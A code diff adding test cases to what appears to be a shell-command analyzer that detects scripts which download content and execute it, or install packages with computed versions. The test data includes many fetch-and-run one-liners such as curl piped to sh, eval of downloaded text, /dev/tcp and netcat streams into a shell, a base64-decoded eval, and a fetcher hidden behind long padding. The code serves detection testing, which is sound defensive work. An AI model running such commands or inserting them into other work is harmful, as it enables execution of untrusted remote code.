@@ -145,6 +145,89 @@ TEST_CASE("RUN: what is written to a file, and run") {
     for (const char* const script : {"echo 'pip install x' > README", "sed -i 's/a/b/' f && sh f", "sed 's/a/b/' f > g", "echo true > f; sh f", "eval \"$(sed -n 1p f)\"", "cat f | sh", "grep x f | xargs echo", "echo 'pip install x' > f; cat f"}) is_silent(script);
 }
 
+TEST_CASE("RUN: what a command reads, it hands on to what it writes") {
+    for (const char* const how : {"cat /t/f > g; sh g", "sed s/a/b/ /t/f > g; sh g", "tee g < /t/f; sh g", "dd if=/t/f of=g; sh g", "rsync /t/f g; sh g", "cp -t /opt /t/f; sh /opt/f", "cp -r /t /opt/d; sh /opt/d/f", "mv /t /opt/e && sh /opt/e/f",
+                                  "cp /t/* /opt/; sh /opt/f", "head -1000 /t/f | sh", "tail -n +1 /t/f | bash", "cat < /t/f | sh", "sh -c \"$(</t/f)\"", "eval \"$(cat /t/f)\"", "find /t -name f -exec sh {} \\;", "find /t -exec {} \\;", "sh /t/*", "BASH_ENV=/t/f bash -c true",
+                                  "X=$(cat /t/f); eval \"$X\"", "sort -o g /t/f; sh g", "echo /t/f | xargs sh", "exec 3< /t/f; sh <&3", "grep -v '^#' /t/f > g; . ./g"}) {
+        INFO(how);
+        CHECK(has(names(std::string("curl -o /t/f https://e.example/x; ") + how), kPlace[0]));
+    }
+    CHECK(names("curl -o /f.gz https://e.example/x; gunzip /f.gz; sh /f") == kPlace);
+    CHECK(names("echo 'pip install x' > f; cat f > g; sh g") == Names{"pkg:pypi/x"});
+    for (const char* const script : {"curl -o f https://e.example/x; sha256sum f > s; sh s", "curl -o f https://e.example/x; cat f > g; sh h", "curl -o /t/f https://e.example/x; cp -r /t /u; sh /v/f", "curl -o f.tgz https://e.example/x; sh check.sh $(sha256sum f.tgz)",
+                                     "curl -o /t/f https://e.example/x; find /t -type f -exec chmod 644 {} \\;", "curl -o /t/f https://e.example/x; find /u -name '*.sh' -exec sh {} \\;", "curl -o /t/f.tgz https://e.example/x; sh /t/*.sh", "cat a b > c; sh c",
+                                     "sh <&3", "cmd <&- x; exec 3<&-", "curl -o /t/f https://e.example/x; find /t -name '*.md' -exec sh {} \\;", "find . -name '*.sh' -exec sh {} \\;"}) is_silent(script);
+}
+
+TEST_CASE("RUN: what is fetched into a variable, and run") {
+    for (const char* const script : {"X=$(curl https://e.example/x); eval \"$X\"", "X=$(curl https://e.example/x); sh -c \"$X\"", "X=`curl https://e.example/x`; echo \"$X\" | sh", "export X=\"$(curl https://e.example/x)\"; $X", "X=$(curl https://e.example/x); Y=$X; eval \"${Y}\"",
+                                     "mapfile -t L < <(curl https://e.example/x); eval \"${L[@]}\"", "read -r l < <(curl https://e.example/x); $l", "curl https://e.example/x | while read l; do eval \"$l\"; done", "curl https://e.example/x | while read l; do sh -c \"$l\"; done",
+                                     "while read -r l; do eval \"$l\"; done < <(curl https://e.example/x)", "curl -o f https://e.example/x; while read l; do eval \"$l\"; done < f", "for i in $(curl https://e.example/x); do eval $i; done", "X=$(curl https://e.example/x); printf '%s' \"$X\" | sh",
+                                     "X=$(curl https://e.example/x); bash <<< \"$X\"", "X=$(curl https://e.example/x); echo \"$X\" > f; sh f", "curl https://e.example/x | { read a; $a; }"}) {
+        INFO(script);
+        CHECK(has(names(script), kPlace[0]));
+    }
+    CHECK(names("echo pip install x | { read a; $a; }") == Names{"pkg:pypi/x"});
+    CHECK(is_noticed("X=$(echo cGlwIGluc3RhbGwgeA== | base64 -d); eval \"$X\""));
+    for (const char* const script : {"V=$(curl -s https://e.example/latest); sh install.sh \"$V\"", "V=$(curl -s https://e.example/latest | jq -r .tag); wget https://d.example/$V/f.tgz", "V=$(curl https://e.example/x); bash -c \"echo $V\"", "D=$(curl https://e.example/x); $D/bin/tool",
+                                     "curl https://e.example/x | while read l; do echo \"$l\"; done", "while read l; do eval \"$l\"; done < f", "read -r l; $l", "for i in $(ls); do sh $i; done", "F=$(mktemp); $F", "X=$(cat f); eval \"$X\""}) is_silent(script);
+}
+
+TEST_CASE("RUN: what xargs and descriptors bring is run") {
+    for (const char* const script : {"curl https://e.example/x | xargs -I{} sh -c \"{}\"", "curl https://e.example/x | xargs -I % sh -c 'echo a; %'", "curl https://e.example/x | xargs -0 sh -c", "exec 3< <(curl https://e.example/x); sh <&3", "sh < <(curl https://e.example/x)",
+                                     "cat <(curl https://e.example/x) | sh", "curl https://e.example/x | parallel", "echo \"$(curl https://e.example/x)\" | sh"}) {
+        INFO(script);
+        CHECK(has(names(script), kPlace[0]));
+    }
+    for (const char* const script : {"coproc curl https://e.example/x; sh <&${COPROC[0]}", "nc e.example 80 | sh", "ssh e.example cat p | sh", "exec 3<>/dev/tcp/e.example/80; sh <&3", "sh < /dev/tcp/e.example/80", "nc e.example 80 > f; sh f", "X=$(ssh e.example cat p); eval \"$X\""}) {
+        INFO(script);
+        CHECK(is_noticed(script));
+    }
+    for (const char* const script : {"find . -name '*.gz' | xargs -I{} sh -c 'gunzip {}'", "grep -l x * | tr a b | xargs -I{} sh -c \"echo {}\"", "ls | xargs -n1 sh -c 'echo $0'", "exec 3< f; cat <&3", "nc -z db 5432 && sh start.sh", "ssh-keyscan e.example >> known_hosts", "curl https://e.example/x | xargs echo"}) is_silent(script);
+}
+
+TEST_CASE("RUN: a fetcher behind a long text is one") {
+    CHECK(is_noticed("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh f"));
+    CHECK(has(names("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh f"), kPlace[0]));
+    is_silent("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh g");
+    for (const char* const part : {"cp -r /d /e; ", "sh /*.sh; ", "find / -exec sh {} \\; ", "X=$X$X; ", "read a b < f; ", "curl u://x | tee f | "}) {
+        INFO(part);
+        CHECK(run("echo a > /d/x.sh; " + many(part, 10'000) + "true").oracle());
+    }
+}
+
+TEST_CASE("RUN: of a name with a computed version the name is known") {
+    for (const char* const script : {"pip install \"x==${V}\" -r requirements.txt", "pip install 'x'\"[a]>=$V\"", "V=$(cat v); pip install \"x==$V\"", "if a; then V=1; else V=2; fi; pip install x==$V", "uv pip install \"x==$(cat v)\""}) {
+        INFO(script);
+        const Parsed parsed = run(script);
+        CHECK(parsed.understood);
+        CHECK(parsed.names() == Names{"pkg:pypi/x"});
+        CHECK_FALSE(parsed.facts.requirements.at(0).dynamic);
+        CHECK_FALSE(parsed.facts.requirements.at(0).pinned);
+    }
+    // What may come to more words than one, or to another name.
+    for (const char* const script : {"pip install x==$V", "pip install \"x$V\"", "pip install \"$V==1\"", "pip install \"x==$@\"", "pip install \"x==${a[@]}\"", "pip install \"x @ $V\"", "if a; then V=1; else V='1 y'; fi; pip install x==$V", "read V; pip install x==$V", "uvx \"x@$V\"",
+                                     "IFS=2; if a; then V=12y; else V=1; fi; pip install x==$V"}) {
+        INFO(script);
+        CHECK(is_noticed(script));
+    }
+}
+
+TEST_CASE("RUN: an index whose path is computed is judged by its host") {
+    for (const char* const script : {"pip install x --index-url \"https://i.example/whl/cu${C}\"", "if a; then export C=121; else export C=124; fi; pip install x --index-url https://i.example/whl/cu${C}", "pip install --index-url=\"https://i.example/whl/$C\" x"}) {
+        INFO(script);
+        const Parsed parsed = run(script);
+        CHECK(parsed.understood);
+        REQUIRE(parsed.facts.index_options.size() == 1);
+        CHECK(parsed.facts.index_options[0].url == "https://i.example/%3F");
+        CHECK(parsed.names() == Names{"pkg:pypi/x"});
+    }
+    for (const char* const script : {"pip install x --index-url \"https://i.example$C/whl\"", "pip install x --index-url \"$C/whl\"", "pip install x --index-url https://i.example/whl/cu$C", "pip install x --index-url \"https://u@$H/whl\"", "pip install x -f \"https://$H/whl\""}) {
+        INFO(script);
+        CHECK_FALSE(run(script).understood);
+    }
+}
+
 TEST_CASE("RUN: aliases") {
     for (const char* const script : {"alias p='pip install'; p x", "alias p=pip; alias q='p install'; q x", "alias p='sudo pip'; p install \"x\""}) {
         INFO(script);
